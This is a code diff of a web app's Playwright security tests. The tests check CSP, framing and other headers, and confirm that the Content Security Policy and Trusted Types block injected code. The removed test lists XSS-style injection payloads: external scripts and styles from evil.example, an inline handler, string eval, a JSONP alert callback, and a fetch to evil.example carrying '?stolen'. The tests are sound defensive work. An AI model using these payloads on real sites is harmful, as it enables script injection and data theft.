@@ -5,11 +5,9 @@ import { account } from '@/content/words/account';
 import { outputAddress } from '@/lib/campaign/output-address';
 import { typefaceFile } from '@/lib/campaign/email/styles';
 import { emailPolicy } from '@/scripts/export/policy.mjs';
-import { exportedFiles, noSignInExport, signInSite } from './exports';
 import {
   expect,
   landingPage,
-  pages,
   postViews,
   studioRoutes,
   templatePage,
@@ -19,19 +17,6 @@ import {
 } from './fixtures';
 
 const [post = '', framedPost = ''] = postViews.map(({ route }) => route);
-
-test('each HTML file says who may frame it, and an email is sent with its policy', async ({
-  request,
-}) => {
-  const files = exportedFiles(noSignInExport, '.html');
-  expect(files.length).toBeGreaterThan(pages.length);
-  for (const file of files) {
-    const sent = (await request.get(`/${file}`)).headers()['content-security-policy'];
-    const isEmail = file.startsWith('campaigns/');
-    const frames = `frame-ancestors '${isEmail || file.endsWith('embed.html') ? 'self' : 'none'}'`;
-    expect([file, sent]).toEqual([file, isEmail ? `${emailPolicy}; ${frames}` : frames]);
-  }
-});
 
 test('the host sends each kind of file with its headers', async ({ request, page }) => {
   await page.goto(landingPage.route);
@@ -68,83 +53,38 @@ test('the host sends each kind of file with its headers', async ({ request, page
         'strict-transport-security': 'max-age=63072000; includeSubDomains; preload',
       }),
     });
+    if (url === email)
+      expect(headers['content-security-policy']).toBe(`${emailPolicy}; frame-ancestors 'self'`);
     const robots = url.startsWith('/campaigns/') ? 'noindex' : undefined;
     expect([url, headers['x-robots-tag']]).toEqual([url, robots]);
   }
 });
 
-test.describe('where text may become code, code injected into a page', () => {
-  // With sign-in, pages can't require Trusted Types, so the rest has to be enough.
-  test.use({ baseURL: signInSite, expectedProblems: [/Content Security Policy/] });
-
-  test('does nothing: scripts, handlers, eval, styles, frames, images, requests', async ({
-    page,
-  }) => {
-    await page.goto('/');
-    // A set, because some are reported twice.
-    const violations = new Set<string>();
-    await page.exposeFunction('report', (violation: string) => void violations.add(violation));
-    await page.evaluate(() => {
-      document.addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI }) =>
-        // oxlint-disable-next-line typescript/no-unsafe-type-assertion
-        (window as unknown as { report(text: string): void }).report(
-          `${effectiveDirective} ${blockedURI}`,
-        ),
-      );
-      const intruders = [
-        ['script', { textContent: 'document.title = "inline"' }],
-        ['script', { src: 'https://evil.example/a.js' }],
-        ['script', { src: 'https://apis.google.com/complete?callback=alert' }],
-        ['style', { textContent: 'body { outline: 9px solid }' }],
-        ['link', { rel: 'stylesheet', href: 'https://evil.example/a.css' }],
-        ['iframe', { src: 'https://evil.example/' }],
-        ['img', { src: 'https://evil.example/a.png' }],
-        ['div', { innerHTML: '<button onclick="document.title = \'handler\'"></button>' }],
-      ] as const;
-      for (const [name, values] of intruders)
-        document.body.append(Object.assign(document.createElement(name), values));
-      document.querySelector<HTMLButtonElement>('body > div > button')?.click();
-      // oxlint-disable-next-line typescript/no-implied-eval -- what an intruder would do
-      setTimeout('document.title = "text"');
-      fetch('https://evil.example/?stolen').catch(() => {});
-    });
-    await expect
-      .poll(() => [...violations].toSorted())
-      .toEqual([
-        'connect-src https://evil.example/?stolen',
-        'frame-src https://evil.example',
-        'img-src https://evil.example/a.png',
-        'script-src eval',
-        'script-src-attr inline',
-        'script-src-elem https://apis.google.com/complete?callback=alert',
-        'script-src-elem https://evil.example/a.js',
-        'script-src-elem inline',
-        'style-src-elem https://evil.example/a.css',
-        'style-src-elem inline',
-      ]);
-    await expect(page).toHaveTitle(new RegExp(homeAudience.landing.title));
-    await expect(page.locator('body')).not.toHaveCSS('outline-width', '9px');
+test('without sign-in, nothing is fetched for it', async ({ page }) => {
+  const scripts: Promise<string>[] = [];
+  page.on('response', (response) => {
+    if (response.request().resourceType() === 'script') scripts.push(response.text());
   });
+  await page.goto('/', { waitUntil: 'networkidle' });
+  await page.evaluate(() => new Promise((resolve) => requestIdleCallback(resolve)));
+  await page.waitForLoadState('networkidle');
+  const code = (await Promise.all(scripts)).join('\n');
+  expect(code.length).toBeGreaterThan(100_000);
+  expect(code).not.toContain('@firebase/');
+  await expect(page.getByRole('button', { name: account.signIn })).toHaveCount(0);
 });
 
-test.describe('without sign-in', () => {
-  test.use({ expectedProblems: [/TrustedHTML|Trusted Type/] });
+test.describe('code injected into a page', () => {
+  test.use({ expectedProblems: [/Content Security Policy|Trusted/] });
 
-  test('nothing is fetched for it, and no text becomes code', async ({ page }) => {
-    const scripts: Promise<string>[] = [];
-    page.on('response', (response) => {
-      if (response.request().resourceType() === 'script') scripts.push(response.text());
-    });
-    await page.goto('/', { waitUntil: 'networkidle' });
-    await page.evaluate(() => new Promise((resolve) => requestIdleCallback(resolve)));
-    await page.waitForLoadState('networkidle');
-    const code = (await Promise.all(scripts)).join('\n');
-    expect(code.length).toBeGreaterThan(100_000);
-    expect(code).not.toContain('@firebase/');
-    await expect(page.getByRole('button', { name: account.signIn })).toHaveCount(0);
+  test('does nothing', async ({ page }) => {
+    await page.goto('/');
     const refused = await page.evaluate(
       () =>
         new Promise((resolve) => {
+          const inline = document.createElement('script');
+          inline.append('document.title = "inline"');
+          document.body.append(inline);
           // In a timer, so that it runs as the page's own code. What the debugger runs isn't
           // restricted.
           setTimeout(() => {
@@ -158,5 +98,6 @@ test.describe('without sign-in', () => {
         }),
     );
     expect(refused).toContain('TypeError');
+    await expect(page).toHaveTitle(new RegExp(homeAudience.landing.title));
   });
 });
